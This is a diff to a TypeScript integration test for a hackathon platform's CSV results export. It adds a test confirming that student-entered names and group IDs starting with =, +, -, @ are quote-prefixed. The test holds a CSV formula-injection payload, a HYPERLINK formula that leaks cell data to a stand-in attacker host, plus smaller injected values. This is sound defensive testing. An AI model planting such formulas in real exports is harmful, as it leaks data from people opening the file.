@@ -1,8 +1,7 @@
+import { parse } from 'csv-parse/sync';
 import { Types } from 'mongoose';
 import { anEvaluation } from './support/builders/evaluation.builder';
 import { createUser, TestUser } from './support/auth';
-import { FakeLlm } from './support/fake-llm/fake-llm.server';
-import { SmtpCapture } from './support/smtp-capture';
 import { FullStack, startFullStack, openHackathonVia, submitFinalVia } from './support/full-stack';
 import { TestApp } from './support/test-app';
 import { until } from './support/wait';
@@ -11,14 +10,12 @@ const HEADER =
   'rang;candidat;etudiantId;prenom;nom;email;numeroEtudiant;groupId;conversationId;tacheId;soumisLe;nombreNotes;notes;moyenne;mention;noteEquitable;divergent';
 
 describe('admin job export-results', () => {
-  let llm: FakeLlm;
-  let smtp: SmtpCapture;
   let t: TestApp;
   let admin: TestUser;
   let student: TestUser;
   let examiner: TestUser;
 
-  const api = (method: 'get' | 'post' | 'put', path: string, who?: TestUser) => {
+  const api = (method: 'get' | 'post' | 'put' | 'patch', path: string, who?: TestUser) => {
     const req = (t.http() as any)[method](`/api/v1${path}`);
     return who ? req.set('Authorization', who.bearer) : req;
   };
@@ -70,7 +67,7 @@ describe('admin job export-results', () => {
   let stack: FullStack;
   beforeAll(async () => {
     stack = await startFullStack();
-    ({ t, llm, smtp, admin } = stack);
+    ({ t, admin } = stack);
     student = await createUser(t, 'student');
     examiner = await createUser(t, 'examiner');
   });
@@ -187,6 +184,41 @@ describe('admin job export-results', () => {
     expect(text.slice(1).split('\r\n')[1]).toBe(
       `;Candidat 1;;;;;;;${conv};${h.tacheId};${text.split('\r\n')[1].split(';')[10]};0;;;;;non`,
     );
+  });
+
+  it('writes what students typed as inert text: cells starting with =, +, -, @ are prefixed with a quote', async () => {
+    const h = await openHackathon();
+    const attacker = await createUser(t, 'student');
+    const formula = '=HYPERLINK("https://evil.example/?leak="&A1;"Voir la note")';
+    // What a student controls in the file: their own names and the group of their conversation.
+    await api('patch', '/users/me', attacker).send({ prenom: '@SUM(1+1)', nom: formula }).expect(200);
+    const conv = (
+      await api('post', '/conversations', attacker)
+        .send({ hackathonId: h.id, tacheId: h.tacheId, groupId: '-2+3' })
+        .expect(201)
+    ).body.conversation.id as string;
+    await submitFinalVia(api, attacker, conv, formula);
+    const e = await createUser(t, 'examiner');
+    await api('put', `/hackathons/${h.id}/examiners`, admin)
+      .send({ examinerIds: [e.id] })
+      .expect(200);
+    await runAssignments(h.id, 1);
+    await api('post', '/evaluations', e).send(anEvaluation(conv).withNote(7).build()).expect(201);
+
+    const { report } = await runExport(h.id);
+    expect(report.state).toBe('completed');
+    const text: string = (await download(report.result.downloadUrl, admin).expect(200)).body.toString('utf8');
+    const [header, row, ...rest] = parse(text, { bom: true, delimiter: ';' }) as string[][];
+    expect(rest).toEqual([]);
+    const cell = (name: string) => row[header.indexOf(name)];
+    expect(cell('prenom')).toBe("'@SUM(1+1)");
+    expect(cell('nom')).toBe(`'${formula}`);
+    expect(cell('groupId')).toBe("'-2+3");
+    expect(cell('conversationId')).toBe(conv);
+    expect(cell('moyenne')).toBe('7');
+    // No cell of the file starts as a formula would.
+    for (const c of row) expect(c).not.toMatch(/^[=+\-@\t\r]/);
+    expect(text).not.toMatch(/(^|[;\n"])=HYPERLINK/);
   });
 
   it('exports an empty file (header only) for a hackathon without submissions', async () => {
